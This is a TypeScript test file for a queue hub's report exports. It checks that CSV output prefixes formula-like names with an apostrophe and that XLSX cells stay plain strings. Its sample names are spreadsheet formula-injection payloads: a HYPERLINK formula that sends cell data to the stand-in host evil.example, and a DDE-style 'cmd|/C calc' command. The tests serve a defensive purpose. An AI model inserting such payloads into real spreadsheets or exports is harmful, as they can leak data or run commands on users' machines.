import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoSite, KIOSK_TOKEN, startTestHub, type TestHub } from '../support/hub-harness.ts';

// Names staff type or the site file holds reach every export. A name that starts like a formula must stay text.
const SERVICE = '=HYPERLINK("http://evil.example/?d="&A1,"klik")';
const COUNTER = '@SUM(1+1)*cmd|/C calc';
const AGENCY = '+62 dinas';

describe('report exports and names that look like formulas', () => {
  let t: TestHub;
  let mod: string;
  beforeAll(async () => {
    const site = demoSite();
    t = await startTestHub({
      site: {
        ...site,
        agencies: site.agencies.map((a, i) => (i === 0 ? { ...a, name: { id: AGENCY, en: AGENCY } } : a)),
        services: site.services.map((s, i) => (i === 0 ? { ...s, name: { id: SERVICE, en: SERVICE } } : s)),
        counters: site.counters.map((c, i) => (i === 0 ? { ...c, name: COUNTER } : c)),
      },
    });
    mod = await t.login('mod');
    const first = site.services[0];
    if (first) await t.api('POST', '/tickets', { token: KIOSK_TOKEN, body: { serviceId: first.id } });
  });
  afterAll(async () => {
    await t.stop();
  });

  async function download(format: string): Promise<Buffer> {
    const res = await fetch(`${t.hub.url}/api/reports/today?format=${format}`, {
      headers: { authorization: `Bearer ${mod}` },
    });
    expect(res.status).toBe(200);
    return Buffer.from(await res.arrayBuffer());
  }

  it('writes them to CSV behind an apostrophe, so no cell starts with = + - @', async () => {
    const csv = (await download('csv')).toString('utf8').slice(1);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""klik"")"`);
    expect(csv).toContain(`"'${COUNTER}"`);
    expect(csv).toContain(`"'${AGENCY}"`);
    // Every cell of every line, as a spreadsheet splits it: none starts a formula.
    for (const line of csv.split('\r\n'))
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
        const text = cell.replace(/,$/, '').replace(/^"|"$/g, '').replaceAll('""', '"');
        expect(text, line).not.toMatch(/^[=+@\t\r]|^-\D/);
      }
  });

  it('keeps them as plain strings in XLSX, never formulas', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await download('xlsx')) as unknown as ExcelJS.Buffer);
    const texts: string[] = [];
    book.eachSheet((sheet) => {
      sheet.eachRow((row) => {
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') texts.push(cell.value);
        });
      });
    });
    expect(texts).toContain(SERVICE);
    expect(texts).toContain(COUNTER);
  });
});
